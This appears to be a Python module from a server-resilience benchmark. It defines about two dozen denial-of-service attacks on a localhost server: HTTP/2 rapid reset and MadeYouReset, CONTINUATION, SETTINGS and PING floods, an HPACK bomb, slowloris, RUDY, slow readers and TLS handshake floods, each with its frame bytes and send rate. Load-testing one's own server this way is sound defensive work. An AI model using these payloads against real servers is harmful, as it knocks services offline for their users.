"""The attacks: what each sends, how fast, over how many connections.

`send(n)` is the n-th thing (from 0) that a connection sends after its `opening`; `rate` is how many of them all
connections send in a second, together. A connection that is closed is opened again, while `rate` is kept. `reads` tells
whether answers are read.
"""

from collections.abc import Callable
from dataclasses import dataclass

from benchmarks.attacks import frames as h2

GET = b"GET /left HTTP/1.1\r\nHost: localhost\r\n\r\n"
POST = b"POST /right HTTP/1.1\r\nHost: localhost\r\n"
BIG = b"GET /right/big HTTP/1.1\r\nHost: localhost\r\n\r\n"
UPGRADE = (
    b"GET /right/ws HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)


def nothing(_n: int) -> bytes:
    return b""


@dataclass(frozen=True)
class Attack:
    name: str
    title: str
    connections: int
    rate: int
    send: Callable[[int], bytes] = nothing
    opening: bytes = b""
    reads: bool = True
    secure: str = ""
    """"drip": a ClientHello byte by byte; "full": handshakes, one after the other."""
    kind: str = "attack"


def _stream(n: int) -> int:
    return 2 * n + 1


def _rapid(n: int) -> bytes:
    cancel = (8).to_bytes(4, "big")
    return h2.request(_stream(n), b"/left") + h2.frame(h2.RST_STREAM, 0, _stream(n), cancel)


def _made(n: int) -> bytes:
    return h2.request(_stream(n), b"/right", end=False, post=True) + h2.frame(h2.WINDOW_UPDATE, 0, _stream(n), bytes(4))


def _continuation(n: int) -> bytes:
    field = b"\x00" + h2.text(b"x-%d" % n) + h2.text(b"y" * 100)
    if n == 0:
        return h2.frame(h2.HEADERS, h2.END_STREAM, 1, b"\x82\x86\x84" + field)
    return h2.frame(h2.CONTINUATION, 0, 1, field)


def _bomb(n: int) -> bytes:
    if n == 0:
        return h2.request(1, b"/left", more=b"\x40\x01a" + h2.text(b"x" * 4000))
    return h2.request(_stream(n), b"/left", more=b"\xbe" * 16000)


def _settings(n: int) -> bytes:
    pairs = b"".join(b"\x00\x04" + (65535 + index % 2).to_bytes(4, "big") for index in range(2700))
    streams = b"".join(h2.request(_stream(index), b"/right", end=False, post=True) for index in range(90))
    return streams if n == 0 else h2.frame(h2.SETTINGS, 0, 0, pairs)


def _one_byte(n: int) -> bytes:
    return h2.frame(h2.WINDOW_UPDATE, 0, _stream(n % 90), (1).to_bytes(4, "big"))


def _head_fields(n: int) -> bytes:
    fields = b"".join(b"X-%d-%d: %s\r\n" % (n, index, b"v" * 600) for index in range(95))
    return GET.replace(b"/left", b"/right")[:-2] + fields + b"\r\n"


_H2 = h2.opening()
_BIG_STREAMS = b"".join(h2.request(_stream(index), b"/right/big") for index in range(90))
_NO_WINDOW = h2.frame(h2.SETTINGS, 0, 0, b"\x00\x04" + bytes(4))
_EMPTY_DATA = h2.opening() + h2.request(1, b"/right", end=False, post=True)
_CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"
_UNKNOWN = b"GET /none HTTP/1.1\r\nHost: localhost\r\n\r\n"

ATTACKS = (
    Attack("none", "no attack", 0, 0, kind="control"),
    Attack("requests", "2,000 ordinary requests a second", 50, 2000, lambda n: GET, kind="control"),
    Attack("rapid-reset", "rapid reset (CVE-2023-44487)", 20, 2000, _rapid, _H2),
    Attack("made-you-reset", "MadeYouReset (CVE-2025-8671)", 20, 2000, _made, _H2),
    Attack("continuation", "CONTINUATION flood", 20, 5000, _continuation, _H2),
    Attack("hpack-bomb", "HPACK bomb", 10, 100, _bomb, _H2),
    Attack("settings", "SETTINGS of 2,700 windows", 10, 200, _settings, _H2),
    Attack("settings-empty", "SETTINGS flood", 10, 10000, lambda n: h2.frame(h2.SETTINGS, 0, 0), _H2),
    Attack("ping", "PING flood", 10, 10000, lambda n: h2.frame(h2.PING, 0, 0, b"12345678"), _H2),
    Attack("empty-data", "empty DATA flood", 10, 10000, lambda n: h2.frame(h2.DATA, 0, 1), _EMPTY_DATA),
    Attack("priority", "PRIORITY flood", 10, 10000, lambda n: h2.frame(h2.PRIORITY, 0, 3, bytes(4) + b"\x10"), _H2),
    Attack("window", "windows of one byte", 10, 5000, _one_byte, _H2 + _NO_WINDOW + _BIG_STREAMS),
    Attack("slow-read-1", "slow readers of 10 MB, HTTP/1.1", 200, 0, opening=BIG, reads=False),
    Attack("slow-read-2", "slow readers of 10 MB, HTTP/2 (90 streams each)", 20, 0, opening=_H2 + _BIG_STREAMS,
           reads=False),
    Attack("slowloris", "1,000 heads, a byte a second each", 1000, 1000, lambda n: b"x", GET[:-2] + b"X: "),
    Attack("rudy", "1,000 bodies, a byte a second each", 1000, 1000, lambda n: b"x",
           POST + b"Content-Length: 999999\r\n\r\n"),
    Attack("chunks", "chunks of one byte with extensions", 10, 10000, lambda n: b"1;a=b\r\nx\r\n", _CHUNKED),
    Attack("heads", "heads of 58 KB, 95 new fields", 20, 200, _head_fields),
    Attack("pipeline", "pipelined requests, 100 at once", 20, 20, lambda n: _UNKNOWN * 100),
    Attack("upgrades", "1,000 upgrades, then silence", 1000, 0, opening=UPGRADE),
    Attack("idle-1", "10,000 idle connections, HTTP/1.1", 10000, 0, opening=GET),
    Attack("idle-2", "5,000 idle connections, HTTP/2", 5000, 0, opening=h2.opening() + h2.request(1, b"/left")),
    Attack("tls-slow", "1,000 TLS handshakes, a byte a second each", 1000, 1000, secure="drip"),
    Attack("tls-flood", "100 full TLS handshakes (RSA 2048) a second", 0, 100, secure="full"),
)  # fmt: skip
BY_NAME = {one.name: one for one in ATTACKS}
